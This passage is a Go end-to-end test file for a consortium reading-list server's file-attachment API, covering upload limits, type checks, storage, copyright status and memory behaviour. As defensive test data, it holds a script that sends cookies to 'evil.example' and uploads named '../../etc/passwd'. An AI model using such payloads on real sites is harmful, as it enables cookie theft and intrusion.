package main

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"math/rand/v2"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/commonshelf/commonshelf/index"
)

// The file tests serve a consortium with small upload limits from a child
// process (so that it can be killed in the middle of an upload and its
// memory read from /proc) and attach files to citations over HTTP.

const (
	instructorLimit = 2 << 20 // consortium.defaults.upload_max_mb.instructor
	studentLimit    = 1 << 20 // consortium.defaults.upload_max_mb.student
	southLimit      = 1 << 20 // south lowers its instructors' limit to 1 MB
)

// fileKeys are the API keys of the file tests, by "institution/role".
var fileKeys = map[string]string{
	"north/instructor": "north-instructor-files-key",
	"north/student":    "north-student-files-key",
	"south/instructor": "south-instructor-files-key",
	"south/student":    "south-student-files-key",
}

// filesConsortium writes a consortium of two institutions: north takes the
// consortium's limits (instructors 2 MB, students 1 MB, student uploads on);
// south lowers its instructors' limit to 1 MB and turns student uploads
// off. The data directory is two levels below root, so that a name like
// "../../x" resolved against it would still land inside root.
func filesConsortium(t *testing.T) (cfg, data, root string) {
	t.Helper()
	root = t.TempDir()
	os.WriteFile(filepath.Join(root, "north.xml"), []byte(`<?xml version="1.0"?><collection xmlns="http://www.loc.gov/MARC21/slim">`+
		marcRecord("n1", "9780199270293", "Clayden, Jonathan", "Organic chemistry", "2nd ed.", "Oxford University Press", "2012")+`</collection>`), 0o644)
	cfg = filepath.Join(root, "c.yaml")
	os.WriteFile(cfg, []byte(fmt.Sprintf(`server:
  operator: {keys: [{sha256: %s}]}
consortium:
  id: c
  name: C
  defaults:
    upload_max_mb: {instructor: 2, student: 1}
    files: {student_uploads: true, quota_mb: 64}
institutions:
  - id: north
    name: North University
    member: {connector: local, files: [north.xml]}
    api_keys: [{sha256: %s, role: instructor}, {sha256: %s, role: student}]
  - id: south
    name: South College
    overrides: {upload_max_mb: {instructor: 1}, files: {student_uploads: false}}
    api_keys: [{sha256: %s, role: instructor}, {sha256: %s, role: student}]
`, sha(operatorKey), sha(fileKeys["north/instructor"]), sha(fileKeys["north/student"]), sha(fileKeys["south/instructor"]), sha(fileKeys["south/student"]))), 0o644)
	return cfg, filepath.Join(root, "srv", "data"), root
}

// fileClient has its own connections: the tests close and kill them.
var fileClient = &http.Client{Transport: &http.Transport{}, Timeout: 2 * time.Minute}

func doFile(t *testing.T, req *http.Request) (*http.Response, []byte) {
	t.Helper()
	resp, err := fileClient.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("%s %s: reading the answer: %v", req.Method, req.URL, err)
	}
	return resp, b
}

// pdfBytes is size bytes of PDF-looking content, different for each seed.
func pdfBytes(size int, seed uint64) []byte {
	b := make([]byte, size)
	rand.NewChaCha8([32]byte{byte(seed), byte(seed >> 8), 'c', 's'}).Read(b)
	copy(b, "%PDF-1.7\n")
	return b
}

// textBytes is size bytes of plain text.
func textBytes(size int) []byte {
	line := []byte("Reading week: chapters 4 to 6, with the problem sets.\n")
	return bytes.Repeat(line, size/len(line)+1)[:size]
}

func filesURL(base, inst, list, citation string) string {
	return base + "/api/v1/lists/" + inst + "/" + list + "/citations/" + citation + "/files"
}

// multipartForm is a form with the fields (name, value, …) in order, then a
// "file" part.
func multipartForm(name string, content []byte, fields ...string) (body []byte, contentType string) {
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	for i := 0; i+1 < len(fields); i += 2 {
		w.WriteField(fields[i], fields[i+1])
	}
	fw, _ := w.CreateFormFile("file", name)
	fw.Write(content)
	w.Close()
	return buf.Bytes(), w.FormDataContentType()
}

// uploadForm posts a file as multipart/form-data.
func uploadForm(t *testing.T, target, key, name string, content []byte, fields ...string) (int, []byte) {
	t.Helper()
	body, ct := multipartForm(name, content, fields...)
	req, _ := http.NewRequest(http.MethodPost, target, bytes.NewReader(body))
	req.Header.Set("Content-Type", ct)
	req.Header.Set("Authorization", "Bearer "+key)
	resp, b := doFile(t, req)
	return resp.StatusCode, b
}

// uploadRaw posts a file as the whole body; query names it (or header does).
func uploadRaw(t *testing.T, target, key, query string, content []byte, header ...string) (int, []byte) {
	t.Helper()
	if query != "" {
		target += "?" + query
	}
	req, _ := http.NewRequest(http.MethodPost, target, bytes.NewReader(content))
	req.Header.Set("Content-Type", "application/octet-stream")
	req.Header.Set("Authorization", "Bearer "+key)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, b := doFile(t, req)
	return resp.StatusCode, b
}

func decodeFile(t *testing.T, b []byte) index.File {
	t.Helper()
	var f index.File
	if err := json.Unmarshal(b, &f); err != nil || f.ID == "" {
		t.Fatalf("not a file record (%v): %s", err, b)
	}
	return f
}

// apiErr is the error object of an API answer.
type apiErr struct {
	Code, Message, Field string
}

func decodeAPIError(t *testing.T, b []byte) apiErr {
	t.Helper()
	var e struct{ Error apiErr }
	if err := json.Unmarshal(b, &e); err != nil || e.Error.Code == "" {
		t.Fatalf("not an API error (%v): %s", err, b)
	}
	return e.Error
}

// getFile downloads a file with the key and extra headers (name, value, …).
func getFile(t *testing.T, target, key string, header ...string) (*http.Response, []byte) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, target, nil)
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	return doFile(t, req)
}

// putFilesList writes a published public list with the citations.
func putFilesList(t *testing.T, base, inst, id string, citations ...string) {
	t.Helper()
	l := chemistryList(id)
	var cs []index.Citation
	for _, c := range citations {
		cs = append(cs, index.Citation{ID: c, Type: index.TypeBook, Title: "Reading " + c, Authors: []string{"Clayden, Jonathan"}, Year: 2012})
	}
	l.Sections[0].Citations = cs
	body, _ := json.Marshal(l)
	code, b := send(t, http.MethodPut, base+"/api/v1/institutions/"+inst+"/lists/"+id, fileKeys[inst+"/instructor"], body)
	if code != 200 && code != 201 {
		t.Fatalf("writing list %s/%s: %d %s", inst, id, code, b)
	}
}

// citationFiles returns the ids of the files on each citation of a list as
// the key's holder sees them.
func citationFiles(t *testing.T, base, inst, id, key string) map[string][]string {
	t.Helper()
	code, b := send(t, http.MethodGet, base+"/api/v1/lists/"+inst+"/"+id, key, nil)
	var l index.List
	if code != 200 || json.Unmarshal(b, &l) != nil {
		t.Fatalf("list %s/%s: %d %s", inst, id, code, b)
	}
	out := map[string][]string{}
	for _, s := range l.Sections {
		for _, c := range s.Citations {
			for _, f := range c.Files {
				out[c.ID] = append(out[c.ID], f.ID)
			}
		}
	}
	return out
}

// usedBytes is the institution's files.used_bytes in its config view.
func usedBytes(t *testing.T, base, inst string) int64 {
	t.Helper()
	code, b := send(t, http.MethodGet, base+"/api/v1/institutions/"+inst+"/config", operatorKey, nil)
	var v struct {
		Files *struct {
			UsedBytes  int64 `json:"used_bytes"`
			QuotaBytes int64 `json:"quota_bytes"`
		} `json:"files"`
	}
	if code != 200 || json.Unmarshal(b, &v) != nil || v.Files == nil || v.Files.QuotaBytes != 64<<20 {
		t.Fatalf("config of %s: %d %s", inst, code, b)
	}
	return v.Files.UsedBytes
}

func blobPath(data, sum string) string {
	return filepath.Join(data, "files", "sha256", sum[:2], sum)
}

func sum256(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

// storedFiles walks data/files and returns every regular file in it, by
// path relative to data/files.
func storedFiles(t *testing.T, data string) []string {
	t.Helper()
	var out []string
	dir := filepath.Join(data, "files")
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			rel, _ := filepath.Rel(dir, p)
			out = append(out, rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// vmRSS is a process's resident memory in bytes, from /proc.
func vmRSS(t *testing.T, pid int) int64 {
	t.Helper()
	rss := rssOf(pid)
	if rss == 0 {
		t.Fatalf("no VmRSS in /proc/%d/status", pid)
	}
	return rss
}

// heapInuse is the server's go_memstats_heap_inuse_bytes, from /metrics.
func heapInuse(t *testing.T, base string) int64 {
	t.Helper()
	code, b := send(t, http.MethodGet, base+"/metrics", operatorKey, nil)
	m := regexp.MustCompile(`(?m)^go_memstats_heap_inuse_bytes (\S+)$`).FindSubmatch(b)
	if code != 200 || m == nil {
		t.Fatalf("metrics: %d, no go_memstats_heap_inuse_bytes", code)
	}
	v, _ := strconv.ParseFloat(string(m[1]), 64)
	return int64(v)
}

func mb(n int64) string { return fmt.Sprintf("%.1f MB", float64(n)/(1<<20)) }

func TestFilesAttachedToCitationsOverHTTP(t *testing.T) {
	if os.Getenv("COMMONSHELF_E2E_CHILD") != "" {
		t.Skip("child")
	}
	cfg, data, root := filesConsortium(t)
	cmd, base := startServer(t, cfg, data)
	defer func() { stopServer(cmd) }()
	putFilesList(t, base, "north", "chem", "c1", "c2")
	putFilesList(t, base, "south", "chem", "c1", "c2")
	northInstructor, northStudent := fileKeys["north/instructor"], fileKeys["north/student"]
	southInstructor := fileKeys["south/instructor"]

	t.Run("an instructor's upload up to the limit is stored and downloads byte for byte", func(t *testing.T) {
		for i, c := range []struct {
			title     string
			size      int
			multipart bool
			want      int
		}{
			{"one byte under the limit, as a form", instructorLimit - 1, true, 201},
			{"exactly the limit, as the raw body", instructorLimit, false, 201},
			{"one byte over the limit, as a form", instructorLimit + 1, true, 413},
			{"one byte over the limit, as the raw body", instructorLimit + 1, false, 413},
		} {
			t.Run(c.title, func(t *testing.T) {
				content := pdfBytes(c.size, uint64(100+i))
				target := filesURL(base, "north", "chem", "c1")
				var code int
				var b []byte
				if c.multipart {
					code, b = uploadForm(t, target, northInstructor, "week 1 reading.pdf", content)
				} else {
					code, b = uploadRaw(t, target, northInstructor, "filename=week%201%20reading.pdf", content)
				}
				if code != c.want {
					t.Fatalf("upload of %d bytes: %d %s, want %d", c.size, code, b, c.want)
				}
				if code != 201 {
					if e := decodeAPIError(t, b); e.Code != "too_large" || !strings.Contains(e.Message, "2 MB for instructors at North University") {
						t.Fatalf("the error does not name the limit: %s", b)
					}
					return
				}
				f := decodeFile(t, b)
				if f.SHA256 != sum256(content) || f.Size != int64(c.size) || f.Type != "application/pdf" || f.Name != "week 1 reading.pdf" ||
					f.Copyright != "pending" || f.Uploader.Role != "instructor" {
					t.Fatalf("file record: %s", b)
				}
				fileURL := target + "/" + f.ID
				resp, got := getFile(t, fileURL, northInstructor)
				if resp.StatusCode != 200 || !bytes.Equal(got, content) {
					t.Fatalf("download: %d, %d bytes, identical %v", resp.StatusCode, len(got), bytes.Equal(got, content))
				}
				h := resp.Header
				if disp, p, err := mime.ParseMediaType(h.Get("Content-Disposition")); err != nil || disp != "attachment" || p["filename"] != "week 1 reading.pdf" {
					t.Errorf("Content-Disposition %q", h.Get("Content-Disposition"))
				}
				if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Content-Type") != "application/pdf" || h.Get("ETag") != `"`+f.SHA256+`"` {
					t.Errorf("headers: nosniff %q, type %q, ETag %q", h.Get("X-Content-Type-Options"), h.Get("Content-Type"), h.Get("ETag"))
				}
				for _, r := range []struct {
					header     string
					start, end int // inclusive
				}{
					{"bytes=1000-1999", 1000, 1999},
					{"bytes=-100", c.size - 100, c.size - 1},
					{fmt.Sprintf("bytes=%d-", c.size-5), c.size - 5, c.size - 1},
				} {
					resp, got := getFile(t, fileURL, northInstructor, "Range", r.header)
					want := fmt.Sprintf("bytes %d-%d/%d", r.start, r.end, c.size)
					if resp.StatusCode != 206 || resp.Header.Get("Content-Range") != want || !bytes.Equal(got, content[r.start:r.end+1]) {
						t.Errorf("Range %s: %d, Content-Range %q (want %q), %d bytes", r.header, resp.StatusCode, resp.Header.Get("Content-Range"), want, len(got))
					}
				}
				if resp, _ := getFile(t, fileURL, northInstructor, "Range", fmt.Sprintf("bytes=%d-", c.size)); resp.StatusCode != 416 {
					t.Errorf("a range past the end: %d, want 416", resp.StatusCode)
				}
				if resp, _ := getFile(t, fileURL, northInstructor, "If-None-Match", `"`+f.SHA256+`"`); resp.StatusCode != 304 {
					t.Errorf("If-None-Match with the ETag: %d, want 304", resp.StatusCode)
				}
			})
		}
	})

	t.Run("limits follow the role and the institution", func(t *testing.T) {
		for i, c := range []struct {
			title      string
			inst, role string
			size       int
			want       int
			wantErr    string // code and a fragment of the message
		}{
			{"a north student, the instructor's just-allowed size", "north", "student", instructorLimit - 1, 413, "too_large: 1 MB for students at North University"},
			{"a north student, one byte over the student limit", "north", "student", studentLimit + 1, 413, "too_large: 1 MB for students at North University"},
			{"a north student, under the student limit", "north", "student", studentLimit - 1, 201, ""},
			{"a south student: student uploads are off at south", "south", "student", 10 << 10, 403, "uploads_disabled: students may not upload"},
			{"a south instructor at 1.5 MB, which the consortium allows", "south", "instructor", 3 << 19, 413, "too_large: 1 MB for instructors at South College"},
			{"a south instructor one byte over south's 1 MB", "south", "instructor", southLimit + 1, 413, "too_large: 1 MB for instructors at South College"},
			{"a south instructor under south's 1 MB", "south", "instructor", southLimit - 1, 201, ""},
			{"a north instructor at 1.5 MB", "north", "instructor", 3 << 19, 201, ""},
		} {
			t.Run(c.title, func(t *testing.T) {
				content := pdfBytes(c.size, uint64(200+i))
				code, b := uploadForm(t, filesURL(base, c.inst, "chem", "c2"), fileKeys[c.inst+"/"+c.role], "chapter.pdf", content)
				if code != c.want {
					t.Fatalf("%d %s, want %d", code, b, c.want)
				}
				if c.want == 201 {
					if f := decodeFile(t, b); f.Size != int64(c.size) || f.SHA256 != sum256(content) || f.Uploader.Role != c.role {
						t.Fatalf("file record: %s", b)
					}
					return
				}
				e := decodeAPIError(t, b)
				wantCode, msg, _ := strings.Cut(c.wantErr, ": ")
				if e.Code != wantCode || !strings.Contains(e.Message, msg) {
					t.Fatalf("error %+v, want code %s naming %q", e, wantCode, msg)
				}
			})
		}
	})

	t.Run("an upload announced with Expect: 100-continue over the limit is refused before its body is sent", func(t *testing.T) {
		u, _ := url.Parse(filesURL(base, "north", "chem", "c1"))
		for _, c := range []struct {
			title  string
			key    string
			length int
			want   string
		}{
			{"a student announcing the instructor's size", northStudent, instructorLimit - 1, "HTTP/1.1 413"},
			{"an instructor announcing more than the limit", northInstructor, instructorLimit + 1<<20, "HTTP/1.1 413"},
			{"an instructor within the limit is told to continue", northInstructor, instructorLimit - 1, "HTTP/1.1 100 Continue"},
		} {
			t.Run(c.title, func(t *testing.T) {
				conn, err := net.Dial("tcp", u.Host)
				if err != nil {
					t.Fatal(err)
				}
				defer conn.Close()
				fmt.Fprintf(conn, "POST %s?filename=big.pdf HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: application/pdf\r\nContent-Length: %d\r\nExpect: 100-continue\r\n\r\n",
					u.Path, u.Host, c.key, c.length)
				conn.SetReadDeadline(time.Now().Add(30 * time.Second))
				line, err := bufio.NewReader(conn).ReadString('\n')
				if err != nil || !strings.HasPrefix(line, c.want) {
					t.Fatalf("first answer line %q (%v), want %q", line, err, c.want)
				}
			})
		}
	})

	t.Run("content of a type the institution does not take is refused with 415 and not stored", func(t *testing.T) {
		exe, err := os.Open(os.Args[0]) // this test binary: a real executable
		if err != nil {
			t.Fatal(err)
		}
		elf := make([]byte, 64<<10)
		io.ReadFull(exe, elf)
		exe.Close()
		pe := make([]byte, 4096) // a DOS stub pointing at a PE header
		copy(pe, "MZ")
		binary.LittleEndian.PutUint32(pe[0x3c:], 0x80)
		copy(pe[0x80:], "PE\x00\x00")
		html := []byte("<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n")
		before := len(storedFiles(t, data))
		for _, c := range []struct {
			title     string
			name      string
			content   []byte
			multipart bool
		}{
			{"an HTML page named notes.txt, as a form", "notes.txt", html, true},
			{"an HTML page named notes.pdf, as the raw body", "notes.pdf", html, false},
			{"a Linux executable named reading.pdf", "reading.pdf", elf, true},
			{"a Windows executable named syllabus.pdf, as the raw body", "syllabus.pdf", pe, false},
		} {
			t.Run(c.title, func(t *testing.T) {
				target := filesURL(base, "north", "chem", "c1")
				var code int
				var b []byte
				if c.multipart {
					code, b = uploadForm(t, target, northInstructor, c.name, c.content)
				} else {
					code, b = uploadRaw(t, target, northInstructor, "filename="+c.name, c.content)
				}
				if code != 415 || decodeAPIError(t, b).Code != "unsupported_type" {
					t.Fatalf("%d %s, want 415 unsupported_type", code, b)
				}
			})
		}
		if after := storedFiles(t, data); len(after) != before {
			t.Fatalf("refused uploads left files: %d before, now %v", before, after)
		}
	})

	t.Run("a file named ../../etc/passwd is stored under its base name only", func(t *testing.T) {
		etc, etcErr := os.Stat("/etc/passwd")
		putFilesList(t, base, "north", "names", "c1")
		target := filesURL(base, "north", "names", "c1")
		for i, c := range []struct {
			title  string
			upload func(content []byte) (int, []byte)
		}{
			{"as a form's file name", func(content []byte) (int, []byte) {
				return uploadForm(t, target, northInstructor, "../../etc/passwd", content)
			}},
			{"in ?filename=", func(content []byte) (int, []byte) {
				return uploadRaw(t, target, northInstructor, "filename="+url.QueryEscape("../../etc/passwd"), content)
			}},
			{"in a Content-Disposition header", func(content []byte) (int, []byte) {
				return uploadRaw(t, target, northInstructor, "", content, "Content-Disposition", `attachment; filename="../../etc/passwd"`)
			}},
			{"with Windows separators in ?filename=", func(content []byte) (int, []byte) {
				return uploadRaw(t, target, northInstructor, "filename="+url.QueryEscape(`..\..\etc\passwd`), content)
			}},
		} {
			t.Run(c.title, func(t *testing.T) {
				content := []byte(fmt.Sprintf("root:x:0:0:root:/root:/bin/bash\nmallory:x:%d:0::/:/bin/sh\n", 1000+i))
				code, b := c.upload(content)
				if code != 201 {
					t.Fatalf("%d %s", code, b)
				}
				f := decodeFile(t, b)
				// The base name, with the extension of its detected type.
				if f.Name != "passwd.txt" {
					t.Fatalf("stored name %q, want passwd.txt", f.Name)
				}
				resp, got := getFile(t, target+"/"+f.ID, northInstructor)
				disp, p, err := mime.ParseMediaType(resp.Header.Get("Content-Disposition"))
				if resp.StatusCode != 200 || !bytes.Equal(got, content) || err != nil || disp != "attachment" || p["filename"] != "passwd.txt" ||
					strings.ContainsAny(resp.Header.Get("Content-Disposition"), `/\`) {
					t.Fatalf("download: %d, Content-Disposition %q, identical %v", resp.StatusCode, resp.Header.Get("Content-Disposition"), bytes.Equal(got, content))
				}
			})
		}
		// Nothing outside the data directory: root holds the configuration,
		// the catalogue and the data directory only, and no file anywhere
		// is called passwd.
		filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			rel, _ := filepath.Rel(root, p)
			inData := rel == "srv" || strings.HasPrefix(rel, filepath.Join("srv", "data"))
			if rel != "." && rel != "c.yaml" && rel != "north.xml" && !inData {
				t.Errorf("written outside the data directory: %s", p)
			}
			if d.Name() == "passwd" {
				t.Errorf("a file named passwd: %s", p)
			}
			return nil
		})
		if now, err := os.Stat("/etc/passwd"); (err == nil) != (etcErr == nil) || err == nil && (!now.ModTime().Equal(etc.ModTime()) || now.Size() != etc.Size()) {
			t.Errorf("/etc/passwd changed")
		}
	})

	// Before the streaming tests: removal of unused content waits for a
	// moment with no upload in flight.
	t.Run("students see only cleared files; removing a citation removes its files and unused content", func(t *testing.T) {
		putFilesList(t, base, "north", "rights", "c1", "c2", "c3")
		url1, url2 := filesURL(base, "north", "rights", "c1"), filesURL(base, "north", "rights", "c2")
		used0 := usedBytes(t, base, "north")
		content := pdfBytes(300<<10, 300)
		code, b := uploadForm(t, url1, northInstructor, "scan.pdf", content)
		if code != 201 {
			t.Fatalf("upload to c1: %d %s", code, b)
		}
		f1 := decodeFile(t, b)
		if used := usedBytes(t, base, "north"); used != used0+int64(len(content)) {
			t.Fatalf("used_bytes %d after a %d-byte upload, was %d", used, len(content), used0)
		}
		// The same content on a second citation is stored and counted once.
		code, b = uploadRaw(t, url2, northInstructor, "filename=scan-again.pdf", content)
		if code != 201 {
			t.Fatalf("upload to c2: %d %s", code, b)
		}
		f2 := decodeFile(t, b)
		if f2.SHA256 != f1.SHA256 || f2.ID == f1.ID {
			t.Fatalf("two attachments of one content: %+v %+v", f1, f2)
		}
		if used := usedBytes(t, base, "north"); used != used0+int64(len(content)) {
			t.Fatalf("used_bytes %d after attaching the same content twice, want %d", used, used0+int64(len(content)))
		}
		// A student's upload asking for "cleared" still waits for the library.
		mine := pdfBytes(100<<10, 301)
		code, b = uploadForm(t, url1, northStudent, "my notes.pdf", mine, "copyright", "cleared")
		if code != 201 {
			t.Fatalf("student upload: %d %s", code, b)
		}
		fStudent := decodeFile(t, b)
		if fStudent.Copyright != "pending" || fStudent.Uploader.Role != "student" {
			t.Fatalf("a student's upload: %s", b)
		}
		if used := usedBytes(t, base, "north"); used != used0+int64(len(content)+len(mine)) {
			t.Fatalf("used_bytes %d after the student's upload", used)
		}

		if got := citationFiles(t, base, "north", "rights", northStudent); len(got) != 0 {
			t.Fatalf("a student sees pending files: %v", got)
		}
		if got := citationFiles(t, base, "north", "rights", northInstructor); len(got["c1"]) != 2 || len(got["c2"]) != 1 {
			t.Fatalf("the instructor sees %v, want two files on c1 and one on c2", got)
		}
		if got := citationFiles(t, base, "north", "rights", ""); len(got) != 0 {
			t.Fatalf("an anonymous reader sees files: %v", got)
		}
		if resp, _ := getFile(t, url1+"/"+f1.ID, northStudent); resp.StatusCode != 404 {
			t.Fatalf("a student downloading a pending file: %d, want 404", resp.StatusCode)
		}
		patch := func(target, key, status string) (int, []byte) {
			body, _ := json.Marshal(map[string]string{"copyright": status})
			return send(t, http.MethodPatch, target, key, body)
		}
		if code, b := patch(url1+"/"+f1.ID, northStudent, "cleared"); code != 404 {
			t.Fatalf("a student clearing a file they cannot see: %d %s", code, b)
		}
		if code, b := patch(url1+"/"+f1.ID, southInstructor, "cleared"); code != 404 {
			t.Fatalf("another institution's instructor clearing the file: %d %s", code, b)
		}
		if code, b := patch(url1+"/"+f1.ID, northInstructor, "approved"); code != 400 {
			t.Fatalf("an unknown status: %d %s", code, b)
		}
		code, b = patch(url1+"/"+f1.ID, northInstructor, "cleared")
		if code != 200 || decodeFile(t, b).Copyright != "cleared" {
			t.Fatalf("clearing: %d %s", code, b)
		}
		if got := citationFiles(t, base, "north", "rights", northStudent); len(got) != 1 || len(got["c1"]) != 1 || got["c1"][0] != f1.ID {
			t.Fatalf("after clearing, the student sees %v, want only %s on c1", got, f1.ID)
		}
		if resp, got := getFile(t, url1+"/"+f1.ID, northStudent); resp.StatusCode != 200 || !bytes.Equal(got, content) {
			t.Fatalf("the student downloading the cleared file: %d", resp.StatusCode)
		}
		if code, b := patch(url1+"/"+f1.ID, northStudent, "pending"); code != 403 {
			t.Fatalf("a student changing a cleared file's status: %d %s", code, b)
		}
		if resp, _ := getFile(t, url2+"/"+f2.ID, northStudent); resp.StatusCode != 404 {
			t.Fatalf("the same content still pending on c2 is open to the student: %d", resp.StatusCode)
		}

		// c1 goes: its files go; the content c2 still uses stays.
		putFilesList(t, base, "north", "rights", "c2", "c3")
		for _, f := range []index.File{f1, fStudent} {
			if resp, b := getFile(t, url1+"/"+f.ID, northInstructor); resp.StatusCode != 404 {
				t.Fatalf("file %s of the removed citation: %d %s", f.ID, resp.StatusCode, b)
			}
		}
		if _, err := os.Stat(blobPath(data, fStudent.SHA256)); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("the student's content, used by no citation, is still on disk: %v", err)
		}
		if _, err := os.Stat(blobPath(data, f1.SHA256)); err != nil {
			t.Fatalf("content c2 still uses was removed: %v", err)
		}
		if resp, got := getFile(t, url2+"/"+f2.ID, northInstructor); resp.StatusCode != 200 || !bytes.Equal(got, content) {
			t.Fatalf("c2's file after c1 went: %d", resp.StatusCode)
		}
		if used := usedBytes(t, base, "north"); used != used0+int64(len(content)) {
			t.Fatalf("used_bytes %d after removing c1, want %d", used, used0+int64(len(content)))
		}
		// c2 goes too: no citation uses the content any more.
		putFilesList(t, base, "north", "rights", "c3")
		if resp, b := getFile(t, url2+"/"+f2.ID, northInstructor); resp.StatusCode != 404 {
			t.Fatalf("file of the removed c2: %d %s", resp.StatusCode, b)
		}
		if _, err := os.Stat(blobPath(data, f1.SHA256)); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("content used by no citation is still on disk: %v", err)
		}
		if used := usedBytes(t, base, "north"); used != used0 {
			t.Fatalf("used_bytes %d after removing every file, want %d", used, used0)
		}
	})

	t.Run("a chunked upload many times the limit is cut at the limit in flat memory", func(t *testing.T) {
		const total = 32 * instructorLimit // what the client would send
		pid := cmd.Process.Pid
		for _, c := range []struct {
			title     string
			multipart bool
		}{
			{"the raw body", false},
			{"a multipart form", true},
		} {
			t.Run(c.title, func(t *testing.T) {
				rss0, heap0 := vmRSS(t, pid), heapInuse(t, base)
				var peak atomic.Int64
				peak.Store(rss0)
				stop := make(chan struct{})
				var sampled sync.WaitGroup
				sampled.Go(func() {
					for {
						select {
						case <-stop:
							return
						case <-time.After(2 * time.Millisecond):
						}
						if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid)); err == nil {
							if m := regexp.MustCompile(`(?m)^VmRSS:\s+(\d+) kB$`).FindSubmatch(b); m != nil {
								kb, _ := strconv.ParseInt(string(m[1]), 10, 64)
								if kb<<10 > peak.Load() {
									peak.Store(kb << 10)
								}
							}
						}
					}
				})

				pr, pw := io.Pipe()
				var written atomic.Int64
				var wrote sync.WaitGroup
				var w io.Writer = pw
				var mw *multipart.Writer
				if c.multipart {
					mw = multipart.NewWriter(pw)
				}
				wrote.Go(func() {
					if mw != nil {
						fw, err := mw.CreateFormFile("file", "endless.txt")
						if err != nil {
							return
						}
						w = fw
					}
					chunk := textBytes(64 << 10)
					for written.Load() < total {
						n, err := w.Write(chunk)
						written.Add(int64(n))
						if err != nil {
							return
						}
					}
					if mw != nil {
						mw.Close()
					}
					pw.Close()
				})
				target := filesURL(base, "north", "chem", "c1")
				if !c.multipart {
					target += "?filename=endless.txt"
				}
				req, _ := http.NewRequest(http.MethodPost, target, pr)
				req.Header.Set("Authorization", "Bearer "+northInstructor)
				if mw != nil {
					req.Header.Set("Content-Type", mw.FormDataContentType())
				} else {
					req.Header.Set("Content-Type", "text/plain")
				}
				resp, err := fileClient.Do(req)
				var outcome string
				if err == nil {
					b, _ := io.ReadAll(resp.Body)
					resp.Body.Close()
					if resp.StatusCode != 413 {
						t.Fatalf("%d %s, want 413", resp.StatusCode, b)
					}
					if e := decodeAPIError(t, b); e.Code != "too_large" || !strings.Contains(e.Message, "2 MB for instructors at North University") {
						t.Fatalf("the error does not name the limit: %s", b)
					}
					outcome = fmt.Sprintf("413 (connection close: %v)", resp.Close)
				} else {
					outcome = "connection closed by the server: " + err.Error()
				}
				pr.CloseWithError(errors.New("the test stops sending"))
				wrote.Wait()
				close(stop)
				sampled.Wait()
				rss1, heap1 := vmRSS(t, pid), heapInuse(t, base)
				t.Logf("%s; the client wrote %s of %s; server RSS %s → peak %s → %s after (growth %s); heap in use %s → %s",
					outcome, mb(written.Load()), mb(total), mb(rss0), mb(peak.Load()), mb(rss1), mb(peak.Load()-rss0), mb(heap0), mb(heap1))
				if w := written.Load(); w >= total/4 {
					t.Errorf("the server took %s of a %s stream with a 2 MB limit", mb(w), mb(total))
				}
				if g := peak.Load() - rss0; g >= total/4 {
					t.Errorf("the server's resident memory grew by %s while %s was streamed at it", mb(g), mb(written.Load()))
				}
				if g := heap1 - heap0; g >= total/8 {
					t.Errorf("the server's heap grew by %s", mb(g))
				}
				// The server still answers, and kept nothing of the stream.
				if code, b := send(t, http.MethodGet, base+"/healthz", "", nil); code != 200 {
					t.Fatalf("healthz after the stream: %d %s", code, b)
				}
				for _, p := range storedFiles(t, data) {
					if strings.HasPrefix(p, "tmp"+string(filepath.Separator)) {
						t.Errorf("a temporary file is left: %s", p)
					}
				}
			})
		}
	})

	t.Run("a server killed mid-upload leaves no partial file", func(t *testing.T) {
		putFilesList(t, base, "north", "kill", "c1")
		content := pdfBytes(instructorLimit-1, 700)
		target := filesURL(base, "north", "kill", "c1")
		pr, pw := io.Pipe()
		req, _ := http.NewRequest(http.MethodPost, target+"?filename=killed.pdf", pr)
		req.Header.Set("Authorization", "Bearer "+northInstructor)
		done := make(chan error, 1)
		go func() {
			resp, err := fileClient.Do(req)
			if err == nil {
				b, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				err = fmt.Errorf("answered %d %s", resp.StatusCode, b)
			}
			done <- err
		}()
		half := len(content) / 2
		if _, err := pw.Write(content[:half]); err != nil {
			t.Fatal(err)
		}
		// Wait until the server has written part of the upload to its
		// temporary file (a bound on the wait, not a measure of speed).
		tmp := filepath.Join(data, "files", "tmp")
		var partial string
		for end := time.Now().Add(30 * time.Second); partial == "" && time.Now().Before(end); time.Sleep(5 * time.Millisecond) {
			entries, _ := os.ReadDir(tmp)
			for _, e := range entries {
				if fi, err := e.Info(); err == nil && fi.Size() >= int64(half)/2 {
					partial = fmt.Sprintf("%s (%s)", e.Name(), mb(fi.Size()))
				}
			}
		}
		if partial == "" {
			t.Fatal("no temporary file of the upload appeared")
		}
		killServer(cmd)
		pw.CloseWithError(errors.New("the server is gone"))
		if err := <-done; err == nil || strings.HasPrefix(err.Error(), "answered") {
			t.Fatalf("the killed upload: %v", err)
		}
		cmd, base = startServer(t, cfg, data)
		target = filesURL(base, "north", "kill", "c1")

		var blobs int
		for _, p := range storedFiles(t, data) {
			parts := strings.Split(p, string(filepath.Separator))
